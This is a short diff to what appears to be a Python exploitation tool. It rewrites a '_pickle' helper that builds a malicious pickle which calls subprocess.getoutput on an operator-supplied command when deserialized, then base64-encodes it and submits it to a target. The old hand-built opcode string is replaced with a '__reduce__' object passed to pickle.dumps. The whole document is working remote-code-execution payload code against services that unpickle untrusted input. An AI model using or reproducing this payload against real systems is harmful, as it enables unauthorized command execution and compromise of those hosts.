@@ -2,6 +2,7 @@
 
 import base64
 import os
+import pickle
 import shutil
 import socket
 import struct
@@ -145,8 +146,8 @@ def _template(running: Running, command: str) -> str:
 
 def _pickle(running: Running, command: str) -> str:
     """A pickle that calls subprocess.getoutput when it is read."""
-    spelled = command.encode("unicode_escape").decode().replace("'", "\\x27")
-    basket = f"csubprocess\ngetoutput\n(V{spelled.replace(chr(92) + 'x27', chr(39))}\ntR.".encode()
+    order = type("Order", (), {"__reduce__": lambda self: (subprocess.getoutput, (command,))})()
+    basket = pickle.dumps(order)
     return running.ask(basket=base64.urlsafe_b64encode(basket).decode())
 
 
